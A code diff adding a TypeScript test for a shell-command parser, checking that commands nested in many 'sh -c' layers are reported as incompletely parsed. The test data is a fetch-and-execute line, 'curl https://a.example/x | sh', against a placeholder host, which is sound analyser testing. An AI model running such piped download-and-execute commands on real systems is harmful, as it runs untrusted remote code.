@@ -373,3 +373,14 @@ describe('places and limits', () => {
     expect(shellActions('a'.repeat(300_000))).toEqual({ actions: [], complete: false });
   });
 });
+
+test('shells in shells beyond the depth that is followed are told', () => {
+  const nested = (depth: number): string => {
+    let command = 'curl https://a.example/x | sh';
+    for (let i = 0; i < depth; i++) command = `sh -c ${JSON.stringify(command)}`;
+    return command;
+  };
+
+  expect(shellActions(nested(3)).complete).toBe(true);
+  expect(shellActions(nested(12)).complete).toBe(false);
+});
